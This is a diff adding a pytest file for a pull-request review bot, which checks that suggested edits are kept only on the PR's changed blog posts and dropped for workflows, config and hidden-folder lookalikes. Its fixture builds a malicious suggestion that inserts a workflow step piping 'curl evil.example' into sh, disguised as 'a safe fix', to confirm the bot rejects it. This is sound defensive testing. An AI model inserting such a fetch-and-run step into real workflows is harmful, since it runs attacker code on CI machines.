@@ -1,0 +1,91 @@
+"""Suggestions only on the pull request's changed posts.
+
+A one-click suggestion is a commit the maintainer makes by pressing a button. The artifact names
+the paths, so without this check it could propose an edit to a workflow (in the pull request's
+diff, so GitHub would accept the comment) and dress it as a safe fix.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from bot.pr import review
+from tests.test_pr_support import REPO, FakeGitHub, Runner, SiteRepo, bot_comment, post
+
+POST = "_posts/2024-01-02-hello.md"
+UNCHANGED = "_posts/2024-01-01-older.md"
+LINES = [f"Line {i}." for i in range(1, 11)]
+WORKFLOW = "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n"
+NOT_POSTS = [
+    ".github/workflows/x.yml",
+    "README.md",
+    ".github/_posts/2024-01-02-hidden.md",  # a post's name in a hidden folder
+    "_config.yml",
+    "_posts/.2024-01-02-dot.md",
+    "scripts/_posts.sh",
+]
+
+
+def suggestion(path: str, line: int) -> review.SuggestionData:
+    return review.SuggestionData(
+        path=path,
+        start_line=line,
+        end_line=line,
+        new_text=f"      - run: curl evil.example | sh  # {path}",
+        rule="encoding/mojibake",
+        message="a safe fix",
+        fingerprint=review.fingerprint(path, "encoding/mojibake", str(line), "x"),
+    )
+
+
+@pytest.fixture
+def runner(fake: FakeGitHub, tmp_path: Path) -> Runner:
+    site = SiteRepo.create(tmp_path / "repo", {UNCHANGED: post("Old", "\n".join(LINES))})
+    return Runner(fake, site, tmp_path)
+
+
+def test_suggestions_on_files_that_are_not_changed_posts_are_dropped(
+    runner: Runner, fake: FakeGitHub
+) -> None:
+    changed = {name: WORKFLOW for name in NOT_POSTS}
+    changed[POST] = post("Hello", "\n".join(LINES))
+    runner.site.commit(changed)
+    pr = runner.open_pr(fork=True)
+    assert {f["filename"] for f in pr.files} == {POST, *NOT_POSTS}
+    path = runner.tmp / "r.json"
+    runner.run(pr, "--results", str(path), token=None)
+    data = json.loads(path.read_text())
+    cases = [suggestion(name, 6) for name in [*NOT_POSTS, UNCHANGED, POST]]
+    data["suggestions"] = [s.model_dump() for s in cases]
+    data["findings"] = [
+        {"path": s.path, "line": 6, "rule": s.rule, "severity": "error", "message": "x"}
+        for s in cases
+    ]
+    path.write_text(json.dumps(data))
+
+    assert runner.post(pr, path).code == 0
+    [rv] = [e for e in fake.log if e.path.endswith("/reviews")]
+    assert [c["path"] for c in rv.body["comments"]] == [POST]
+    body = bot_comment(fake)["body"]
+    assert "curl evil" not in body  # nor offered in the comment as a fix outside the diff
+    assert len(fake.reviews[(REPO, 7)]) == 1
+
+
+def test_the_same_holds_when_the_check_job_posts_itself(runner: Runner, fake: FakeGitHub) -> None:
+    """A pull request of the repository's own branch, checked and posted in one job, from a
+    shallow clone (the changed files come from the API, every file of the pull request)."""
+    from tests.test_pr_support import git
+
+    bad = post("Hello", "\n".join([*LINES[:5], "It isnâ€™t fine.", *LINES[6:]]))
+    runner.site.commit({POST: bad, ".github/workflows/x.yml": WORKFLOW, "README.md": "x\n"})
+    pr = runner.open_pr()
+    shallow = runner.tmp / "shallow"
+    git(runner.tmp, "clone", "-q", "--depth", "1", f"file://{runner.site.root}", str(shallow))
+    git(shallow, "checkout", "-q", pr.head_sha)
+    assert runner.run(pr, site=shallow).code == 1
+    [rv] = [e for e in fake.log if e.path.endswith("/reviews")]
+    assert [c["path"] for c in rv.body["comments"]] == [POST]
+    assert "isn’t fine" in rv.body["comments"][0]["body"]
